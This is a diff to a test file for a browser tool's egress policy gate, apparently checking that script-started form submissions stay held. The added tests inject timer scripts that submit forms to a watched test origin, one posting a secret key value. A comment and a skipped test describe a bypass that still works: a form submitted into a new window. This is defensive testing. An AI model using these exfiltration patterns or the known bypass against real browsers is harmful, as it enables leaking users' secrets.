@@ -6,6 +6,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { evaluate } from '../../shared/engine/ops/eval.js';
 import { PageContext } from '../../shared/engine/page-context.js';
 import { PolicyGate } from '../../shared/engine/policy-gate.js';
+import { EVAL_ACTIVATION_MS } from '../../shared/engine/scripted-documents.js';
 import { policyFromFlags } from '../../shared/policy/flags.js';
 import type { OperationResult } from '../../shared/protocol/operations.js';
 import { loadUrl, startTestBrowser } from '../support/browser.js';
@@ -136,9 +137,28 @@ describe('what a script starts after it returned stays held', () => {
     expect(heldLater(await run('1'))).toEqual(['GET W/popup-late?key=[redacted 34 chars] (navigation)']);
   });
 
-  // Still escapes, in both backends: a form the script submits (into a new window or its own frame) or a link it
-  // clicks names no initiator stack (measured on Chromium 156: initiator {type: 'other'}), and the eval's user
-  // activation lasts 5 s, so neither the stack nor the gesture tells it from the person's own submit. Unskip to see it.
+  it('a form a timer submits in its own frame, whose request names no stack', async () => {
+    await run(`setTimeout(() => { const form = document.createElement('form');
+      form.method = 'post'; form.action = '${watched.origin}/form-late';
+      form.append(Object.assign(document.createElement('input'), { name: 'key', value: ${KEY} }));
+      document.body.append(form); form.submit(); setTimeout(() => (window.submitted = true), 300); }, 1000); 0`);
+    await until('submitted');
+    expect(await reached()).toEqual([]);
+    expect(await pageEval(page, 'location.pathname')).toBe('/egress-late.html');
+    expect(heldLater(await run('1'))).toEqual(['POST W/form-late (navigation)']);
+  });
+
+  it('a form a timer submits once the eval’s activation is over, with no gesture at all', async () => {
+    await run(`setTimeout(() => { const form = document.createElement('form'); form.action = '${watched.origin}/form-later';
+      document.body.append(form); form.requestSubmit(); setTimeout(() => (window.submittedLater = true), 300); },
+      ${EVAL_ACTIVATION_MS + 500}); 0`);
+    await until('submittedLater');
+    expect(await reached()).toEqual([]);
+    expect(heldLater(await run('1'))).toEqual(['GET W/form-later (navigation)']);
+  });
+
+  // Still escapes: a form the script submits into a new window. The popup's request names no stack either, and the popup
+  // guard (the fallback's host) does not yet hear which documents the opener's script reached.
   it.skip('a form a timer submits into a new window', async () => {
     await run(`setTimeout(() => { const form = document.createElement('form');
       form.target = '_blank'; form.method = 'post'; form.action = '${watched.origin}/form-late';
@@ -179,6 +199,34 @@ describe('what a script starts after it returned stays held', () => {
     await run('1');
     expect(await reached()).toEqual([]);
     expect(watched.requests).toEqual(['/page-own']);
+  });
+
+  it('a form the person submits with a click, once the eval’s activation is over, goes', async () => {
+    await run(`const form = document.createElement('form'); form.action = '${watched.origin}/person-form';
+      const button = Object.assign(document.createElement('button'), { textContent: 'Send' });
+      button.style = 'position:fixed;left:0;top:0;width:200px;height:100px'; form.append(button);
+      document.body.append(form); 0`);
+    // The eval's own gesture is what the trail waits out; a person's click after it is theirs.
+    await new Promise((resolve) => setTimeout(resolve, EVAL_ACTIVATION_MS + 500));
+    for (const type of ['mousePressed', 'mouseReleased'])
+      await page.cdp.send('Input.dispatchMouseEvent', { type, x: 50, y: 50, button: 'left', clickCount: 1 });
+    const deadline = Date.now() + 20_000;
+    while (!watched.requests.some((path) => path.startsWith('/person-form'))) {
+      if (Date.now() > deadline) throw new Error('the person’s form never reached its site');
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    await loadUrl(page, suite.server.url('egress-late.html'));
+  });
+
+  it('a form a new document submits on its own, with no gesture, goes: the script never reached it', async () => {
+    await run('1');
+    await loadUrl(page, suite.server.url(`egress-late.html?post=${encodeURIComponent(`${watched.origin}/page-form`)}`));
+    const deadline = Date.now() + 20_000;
+    while (!watched.requests.includes('/page-form')) {
+      if (Date.now() > deadline) throw new Error('the page’s own form never reached its site');
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    await loadUrl(page, suite.server.url('egress-late.html'));
   });
 
   it('a window the page itself opens to that origin loads', async () => {
